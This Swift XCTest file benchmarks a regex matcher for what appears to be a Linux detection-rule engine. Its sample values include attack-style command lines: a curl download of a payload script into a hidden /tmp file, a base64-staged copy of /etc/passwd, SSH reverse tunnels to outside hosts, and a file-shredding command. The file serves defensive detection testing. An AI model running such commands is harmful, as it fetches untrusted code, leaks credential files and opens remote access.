@testable import EQL
import Foundation
import XCTest

/// Matches per second of `RegexMatcher` against the Swift Regex translation it replaced, on the
/// corpus's regex patterns over realistic process values. Opt-in and meaningful only in a release
/// build: `AUSPEX_BENCH=1 swift test -c release --filter RegexThroughputTests`.
final class RegexThroughputTests: XCTestCase {
    /// Patterns as they appear in ../shared/detection-rules/linux-eql (after string escapes), and `regex~`.
    private let patterns: [(String, Bool)] = [
        ("[24][0-9]{3}", false),
        (#".*[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}.*"#, false),
        (#".*[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}(:[0-9]{1,5})?\/[^ ]+.*"#, false),
        (#".*[A-Za-z0-9][A-Za-z0-9\-]*(\.[A-Za-z0-9][A-Za-z0-9\-]*)+(:[0-9]{1,5})?\/[^ ]+.*"#, false),
        (#".*[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}:[0-9]{1,5}:[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}:[0-9]{1,5}.*"#, false),
        ("-[A-NP-Za-np-z][A-Za-z]*[RLDwW][A-Za-z]*", false),
        (#"\.[a-z0-9_\-][a-z0-9_\-\.]{1,254}"#, true),
        ("-[^-]*[uz][^-]*", true),
        (#"php?[0-9]?\.?[0-9]{0,2}"#, true),
        (#"/[a-z0-9\s_\-\\./]+\s"#, true),
        (#"/var/run/\w+\.(pid|lock|reboot)"#, true),
    ]

    private let values = [
        "curl -sSL http://10.12.1.200:8080/payload.sh -o /tmp/.x", "wget -q https://updates.example.org/agent/install.sh",
        "/usr/bin/python3 /usr/lib/command-not-found -- ls", "bash -c cat /etc/passwd | base64 -w0 > /dev/shm/.p",
        "/usr/sbin/sshd", "-D", "-R", "0.0.0.0:4444:127.0.0.1:22", "chmod", "4755", "/tmp/.hidden_file", "php8.1",
        "/var/run/docker.pid", "shred", "-fuz", "ssh -o StrictHostKeyChecking=no -R 9000:localhost:22 root@203.0.113.9",
        "/usr/lib/systemd/systemd-journald", "/home/user/.local/bin/tool ",
        "java -Xmx2g -jar /opt/app/server.jar --spring.config.location=/etc/app/application.yml --server.port=8443 "
            + String(repeating: "--flag=value ", count: 20),
        "/usr/bin/émulateur --répertoire=/srv/données",
    ]

    func testRegexThroughput() throws {
        guard ProcessInfo.processInfo.environment["AUSPEX_BENCH"] == "1" else {
            throw XCTSkip("set AUSPEX_BENCH=1 (and build with -c release) to measure regex throughput")
        }
        let rounds = 2_000
        var report: [String] = []
        var totals = (old: 0.0, new: 0.0)
        for (pattern, insensitive) in patterns {
            let compileStart = DispatchTime.now().uptimeNanoseconds
            let new = try RegexMatcher(lucene: pattern, caseInsensitive: insensitive)
            let compileMicros = Double(DispatchTime.now().uptimeNanoseconds - compileStart) / 1e3
            let old = try LegacySwiftRegexMatcher(lucene: pattern, caseInsensitive: insensitive)
            XCTAssertEqual(values.map(new.matches), values.map(old.matches), pattern)
            let matching = values.filter(new.matches).count
            let newRate = rate(rounds, expecting: matching) { new.matches($0) }
            let oldRate = rate(rounds / 10, expecting: matching) { old.matches($0) }
            totals.old += 1 / oldRate
            totals.new += 1 / newRate
            report.append(String(format: "%-40@ old %10.0f/s  new %11.0f/s  ×%6.1f  compile %6.0f µs%@",
                                 String(pattern.prefix(40)) as NSString, oldRate, newRate, newRate / oldRate,
                                 compileMicros, new.isDeterministic ? "" : " (NFA)"))
        }
        print("regex matches per second over \(values.count) values:\n" + report.joined(separator: "\n"))
        print(String(format: "all patterns: old %.0f/s, new %.0f/s", Double(patterns.count) / totals.old,
                     Double(patterns.count) / totals.new))
    }

    /// Backtracking blow-up: the old matcher's time on `(a|aa)*c` over n `a`s grows with n's Fibonacci
    /// number, so n grows only until a match takes half a second; the new one takes 10 000 `a`s.
    func testHostilePatternTimes() throws {
        guard ProcessInfo.processInfo.environment["AUSPEX_BENCH"] == "1" else {
            throw XCTSkip("set AUSPEX_BENCH=1 (and build with -c release) to measure regex throughput")
        }
        for pattern in ["(a|aa)*c", "(a*)*b"] {
            let old = try LegacySwiftRegexMatcher(lucene: pattern, caseInsensitive: false)
            let new = try RegexMatcher(lucene: pattern, caseInsensitive: false)
            var n = 8
            var line = "\(pattern): old"
            while n <= 64 {
                let text = String(repeating: "a", count: n)
                let start = DispatchTime.now().uptimeNanoseconds
                XCTAssertFalse(old.matches(text))
                let seconds = Double(DispatchTime.now().uptimeNanoseconds - start) / 1e9
                line += String(format: " n=%d %.4fs", n, seconds)
                if seconds > 0.5 { break }
                n += 4
            }
            let long = String(repeating: "a", count: 10_000)
            let start = DispatchTime.now().uptimeNanoseconds
            XCTAssertFalse(new.matches(long))
            line += String(format: "; new n=10000 %.1f µs", Double(DispatchTime.now().uptimeNanoseconds - start) / 1e3)
            print(line)
        }
        // Patterns past the DFA caps: NFA simulation, linear in the value but × automaton size.
        for (pattern, text) in [("(.*[a-m].{12}[n-z]){3}", String(repeating: "xxaxxxxxxxxxxxxxn", count: 60)),
                                ("(.?){4000}", String(repeating: "x", count: 1_000))] {
            let new = try RegexMatcher(lucene: pattern, caseInsensitive: false)
            let start = DispatchTime.now().uptimeNanoseconds
            let matched = new.matches(text)
            let micros = Double(DispatchTime.now().uptimeNanoseconds - start) / 1e3
            print(String(format: "%@ (%d NFA nodes, DFA %@) over %d characters: %@ in %.0f µs", pattern, new.automatonSize,
                         new.isDeterministic ? "yes" : "no", text.count, matched ? "match" : "no match", micros))
        }
    }

    /// Best of three: matches per second over `values`, `rounds` times; `matching` values match each round.
    private func rate(_ rounds: Int, expecting matching: Int, _ match: (String) -> Bool) -> Double {
        var best = Double.infinity
        for _ in 0..<3 {
            var matched = 0
            let start = DispatchTime.now().uptimeNanoseconds
            for _ in 0..<rounds { for value in values where match(value) { matched += 1 } }
            best = min(best, Double(DispatchTime.now().uptimeNanoseconds - start) / 1e9)
            XCTAssertEqual(matched, rounds * matching)
        }
        return Double(rounds * values.count) / best
    }
}
